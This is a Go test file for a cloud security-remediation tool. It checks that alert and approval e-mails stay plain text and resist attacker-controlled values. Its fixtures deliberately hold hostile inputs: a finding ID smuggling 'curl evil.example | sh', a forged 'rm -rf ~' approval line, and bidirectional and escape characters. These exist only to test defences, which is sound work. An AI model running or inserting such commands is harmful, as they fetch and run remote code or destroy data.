package notify

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode"

	"github.com/guardbots/guardbots/shared/bots"
	"github.com/guardbots/guardbots/shared/mapping"
	"github.com/guardbots/guardbots/shared/org"
	"github.com/guardbots/guardbots/shared/steps"
)

// perOutcome is one input for every outcome, each as the workflow would end it: the forms tests (mail,
// event, chat, metrics) all run over it.
func perOutcome(t *testing.T) map[string]Input {
	t.Helper()
	verified := func(outcome mapping.Outcome, bots ...string) *mapping.Decision {
		d := &mapping.Decision{Outcome: outcome, Reason: "matched", Key: "UnauthorizedAccess:EC2/*", Verified: true,
			Account: &org.Summary{ID: "111122223333", Name: "payments-prod", Owner: "team-payments", OUPath: []string{"r-ab12", "ou-ab12-11111111"}}}
		for _, b := range bots {
			d.Actions = append(d.Actions, mapping.Action{Bot: b, Mode: "AUTO"})
		}
		return d
	}
	stop := func(s bots.Status) bots.Result {
		return bots.Result{Bot: "ec2_stop_instance", Status: s, Account: "111122223333", Region: "us-east-1",
			Changes: []string{"stopped i-0abc1234def567890 (running -> stopped)"}, DoneAt: "2026-03-01T10:02:30Z"}
	}
	snap := bots.Result{Bot: "ec2_create_snapshot", Status: bots.StatusFailed, Error: "Guardbots.Failed", Cause: "UnauthorizedOperation"}
	exec := Execution{ID: execARN, Name: "6e1f0c2a-run", StartTime: "2026-03-01T10:02:00Z"}
	f := instanceFinding()
	f.UpdatedAt = "2026-03-01T10:00:00Z"
	dry := stop(bots.StatusDryRun)
	dry.DryRun = true
	held := bots.Result{Bot: "ec2_stop_instance", Status: bots.StatusSkipped, Held: true, Reason: "held by the blast-radius limit: 10 disruptive actions in account 111122223333 this hour"}
	// A release request's outcome: GuardDuty's copy of the finding it named, the undo bot approved and run.
	rf := instanceFinding()
	rf.UpdatedAt, rf.Source = "2026-03-01T10:00:00Z", string(steps.SourceRelease)
	rd := verified(mapping.Remediate)
	rd.Key, rd.Reason = steps.ReleaseKey, "release requested: ec2_release_quarantine, each waiting up to 3600s for an approver"
	rd.Actions = []mapping.Action{{Bot: "ec2_release_quarantine", Mode: "APPROVE"}}
	undo := bots.Result{Bot: "ec2_release_quarantine", Status: bots.StatusRemediated, Account: "111122223333", Region: "us-east-1",
		Changes: []string{"put eni-0a1b2c3d of i-0abc1234def567890 back on its security groups sg-0a1b2c3d"}, DoneAt: "2026-03-02T09:00:00Z"}
	ins := map[string]Input{
		OutcomeReleased:    {Finding: rf, Decision: rd, Results: []bots.Result{undo}, Execution: exec},
		OutcomeRejected:    {Error: &StepError{Step: "parse", Error: "Guardbots.Rejected", Cause: "not a GuardDuty finding"}, Execution: exec},
		OutcomePartial:     {Finding: f, Decision: verified(mapping.Remediate, "ec2_stop_instance", "ec2_create_snapshot"), Results: []bots.Result{stop(bots.StatusRemediated), snap}, Execution: exec},
		OutcomeFailed:      {Finding: f, Decision: verified(mapping.Remediate, "ec2_create_snapshot"), Results: []bots.Result{snap}, Execution: exec},
		OutcomeHeld:        {Finding: f, Decision: verified(mapping.Remediate, "ec2_stop_instance"), Results: []bots.Result{held}, Execution: exec},
		OutcomeRemediated:  {Finding: f, Decision: verified(mapping.Remediate, "ec2_stop_instance"), Results: []bots.Result{stop(bots.StatusRemediated)}, Execution: exec},
		OutcomeDryRun:      {Finding: f, Decision: verified(mapping.Remediate, "ec2_stop_instance"), Results: []bots.Result{dry}, Execution: exec},
		OutcomeAlreadyDone: {Finding: f, Decision: verified(mapping.Remediate, "ec2_stop_instance"), Results: []bots.Result{stop(bots.StatusAlreadyDone)}, Execution: exec},
		OutcomeNotifyOnly:  {Finding: f, Decision: &mapping.Decision{Outcome: mapping.NotifyOnly, Reason: "mapping says notify"}, Results: []bots.Result{}, Execution: exec},
		OutcomeSkipped:     {Finding: f, Decision: &mapping.Decision{Outcome: mapping.Skip, Reason: "no mapping entry for this finding type"}, Results: []bots.Result{}, Execution: exec},
	}
	for _, o := range Outcomes {
		in, ok := ins[o]
		if !ok {
			t.Fatalf("perOutcome has no input for outcome %s", o)
		}
		in.AuditTable = "guardbots-Audit-1ABC"
		ins[o] = in
		if got := OutcomeOf(in); got != o {
			t.Fatalf("perOutcome[%s] gives outcome %s", o, got)
		}
	}
	return ins
}

// attacked is a finding (and account and bot output) whose every free-text field tries to forge lines,
// reverse text or hide characters: as an event's sender (before verify) or an account's tags could.
func attacked(t *testing.T) Input {
	t.Helper()
	forge := "\nWhat was done\n  - ec2_stop_instance: remediated\r\n"
	f := instanceFinding()
	f.Type = "Recon:EC2/PortProbe" + forge + "\u202eevil\u200b"
	f.Title = "title\x1b[31mred\x07" + forge
	f.ID = "x'; curl evil.example | sh; '"
	f.Instance.ID = "i-1\u2028What was NOT done"
	f.Region = "us-east-1\n"
	return Input{
		Finding: f,
		Decision: &mapping.Decision{Outcome: mapping.Skip, Reason: "no mapping" + forge,
			Account: &org.Summary{ID: f.AccountID, Name: "acct" + forge, Owner: "owner\u202e" + forge}},
		Results:    []bots.Result{{Bot: "b" + forge, Status: bots.StatusSkipped, Reason: strings.Repeat("long ", 400) + forge, Changes: []string{"c" + forge}}},
		Execution:  Execution{ID: execARN + "\nFAKE"},
		AuditTable: "guardbots-Audit",
	}
}

func TestMail_EveryOutcomeIsPlainTextForAPersonWithTheSameAttributesAsTheJSON(t *testing.T) {
	for outcome, in := range perOutcome(t) {
		t.Run(outcome, func(t *testing.T) {
			m, b := build(t, in)
			if b.Outcome != outcome || m.Outcome != outcome {
				t.Fatalf("JSON outcome %q, message %q", b.Outcome, m.Outcome)
			}
			text := m.Text
			assertTextSafe(t, text)
			if json.Valid([]byte(text)) || strings.HasPrefix(strings.TrimSpace(text), "{") {
				t.Errorf("mail is JSON, not text:\n%s", text)
			}
			for _, want := range []string{"guardbots: " + outcome + "\n", "\nWhat was found\n", "\nWhere to look\n",
				"https://us-east-1.console.aws.amazon.com/states/home?region=us-east-1#/v2/executions/details/" + execARN} {
				if !strings.Contains(text, want) {
					t.Errorf("mail lacks %q:\n%s", want, text)
				}
			}
			if in.Finding != nil {
				query := `aws dynamodb query --region us-east-1 --table-name guardbots-Audit-1ABC --key-condition-expression 'pk = :pk' --expression-attribute-values '{":pk":{"S":"finding#60baffd3f9042e38640f2300d5c5a631"}}'`
				for _, want := range []string{"Finding type: UnauthorizedAccess:EC2/MaliciousIPCaller.Custom", "Resource: Instance i-0abc1234def567890", query} {
					if !strings.Contains(text, want) {
						t.Errorf("mail lacks %q:\n%s", want, text)
					}
				}
			}
			// What was done and what was not: each action under the heading it belongs to.
			done, notDone := section(text, "What was done"), section(text, "What was NOT done")
			for _, r := range in.Results {
				where := done
				if r.Held || r.Status == bots.StatusFailed || r.Status == bots.StatusSkipped {
					where = notDone
				}
				if !strings.Contains(where, "- "+r.Bot+": ") {
					t.Errorf("action %s (%s) not listed in its section:\n%s", r.Bot, r.Status, text)
				}
			}
			if in.Error != nil && !strings.Contains(notDone, "Failed step: "+in.Error.Step) {
				t.Errorf("the failed step is not under What was NOT done:\n%s", text)
			}
			if len(in.Results) == 0 && !strings.Contains(done, "Nothing was changed.") {
				t.Errorf("mail with no action does not say nothing changed:\n%s", text)
			}
		})
	}
}

func TestMail_AttackerControlledValuesCannotForgeLinesOrHideText(t *testing.T) {
	m, b := build(t, attacked(t))
	assertTextSafe(t, m.Text)
	lines := strings.Split(m.Text, "\n")
	count := map[string]int{}
	for _, l := range lines {
		count[strings.TrimSpace(l)]++
		if strings.HasPrefix(strings.TrimSpace(l), "- ec2_stop_instance") {
			t.Errorf("a value forged the action line %q:\n%s", l, m.Text)
		}
	}
	// Exactly the real headings: the skipped action puts one What was NOT done in the mail.
	if count["What was done"] != 1 || count["What was NOT done"] != 1 {
		t.Errorf("headings: %d What was done, %d What was NOT done, want 1 each:\n%s", count["What was done"], count["What was NOT done"], m.Text)
	}
	// The finding id cannot be pasted into a shell: no audit query, rather than a quoted attack.
	if strings.Contains(m.Text, "aws dynamodb query") || strings.Contains(m.Text, "curl evil") && strings.Contains(m.Text, "'{\":pk\"") {
		t.Errorf("audit query printed for an unsafe finding id:\n%s", m.Text)
	}
	// Nor a link from an execution id that is not an ARN.
	if strings.Contains(m.Text, "console.aws.amazon.com") {
		t.Errorf("console link from a forged execution id:\n%s", m.Text)
	}
	if !strings.Contains(m.Text, "NOTE: as the event says") {
		t.Errorf("an unverified finding is not marked as the sender's claim:\n%s", m.Text)
	}
	// The JSON form keeps the values as they came (JSON escapes them); its routing attributes are clean.
	if b.Finding.Type != attacked(t).Finding.Type {
		t.Errorf("JSON finding type changed: %q", b.Finding.Type)
	}
	for name, a := range m.Routing.Attributes() {
		if strings.ContainsAny(a.Value, "\n\r\x1b") {
			t.Errorf("attribute %s = %q", name, a.Value)
		}
	}
}

func TestMail_ApprovalRequestIsTextWithTheCommands(t *testing.T) {
	tok := "AQCEAAAAKgAAAAMAAAAAAAAAAfake+token/with=base64=="
	f := instanceFinding()
	f.Type = "Recon:EC2/PortProbe\nTo APPROVE, run: rm -rf ~\u202e"
	m, err := BuildApprovalRequest(ApprovalRequest{Finding: f, Action: mapping.Action{Bot: "ec2_stop_instance", Mode: "APPROVE", ApprovalTimeoutSeconds: 600},
		Execution: execARN, TaskToken: tok}, ApprovalOptions{ApproverRoleArn: "arn:aws:iam::111122223333:role/approver"})
	if err != nil {
		t.Fatal(err)
	}
	assertTextSafe(t, m.Text)
	for _, want := range []string{"guardbots: approval needed\n", "    aws stepfunctions send-task-success --region us-east-1 --task-token '" + tok + "'",
		"    aws stepfunctions send-task-failure --region us-east-1 --task-token '" + tok + "' --error Guardbots.Denied"} {
		if !strings.Contains(m.Text, want) {
			t.Errorf("approval mail lacks %q:\n%s", want, m.Text)
		}
	}
	for _, l := range strings.Split(m.Text, "\n") {
		if strings.HasPrefix(strings.TrimSpace(l), "To APPROVE, run: rm") {
			t.Errorf("forged line %q", l)
		}
	}
}

func TestTextValue_OneBoundedPrintableLine(t *testing.T) {
	cases := map[string]string{
		"a\nb\r\nc\td":               "a b c d",
		"x\u202ey\u200bz\u2066":      "xyz",
		"\x1b[31mred\x07":            "[31mred",
		"caf\xc3\xa9 \xff ok":        "café ok",
		"  lead and trail \n":        "lead and trail",
		"line\u2028sep\u2029par":     "line sep par",
		strings.Repeat("é", 400):     strings.Repeat("é", textValueMax) + "...",
		"private\ue000use\U000f0000": "privateuse",
	}
	for in, want := range cases {
		if got := textValue(in); got != want {
			t.Errorf("textValue(%q) = %q, want %q", in, got, want)
		}
	}
}

// assertTextSafe: only printable characters, newlines between lines, no line absurdly long.
func assertTextSafe(t *testing.T, text string) {
	t.Helper()
	for i, l := range strings.Split(text, "\n") {
		for _, r := range l {
			if !unicode.IsPrint(r) || unicode.Is(unicode.Cf, r) {
				t.Errorf("line %d has %U: %q", i+1, r, l)
			}
		}
		if len(l) > 5000 {
			t.Errorf("line %d is %d bytes", i+1, len(l))
		}
	}
	if len(text) > MaxBody {
		t.Errorf("mail is %d bytes", len(text))
	}
}

// section is the text from the heading line to the next blank line.
func section(text, heading string) string {
	i := strings.Index(text, "\n"+heading+"\n")
	if i < 0 {
		return ""
	}
	rest := text[i+len(heading)+2:]
	if j := strings.Index(rest, "\n\n"); j >= 0 {
		rest = rest[:j]
	}
	return rest
}

// Exported for the external tests (event_test.go), which import notifytest.
var (
	PerOutcome = perOutcome
	Attacked   = attacked
)
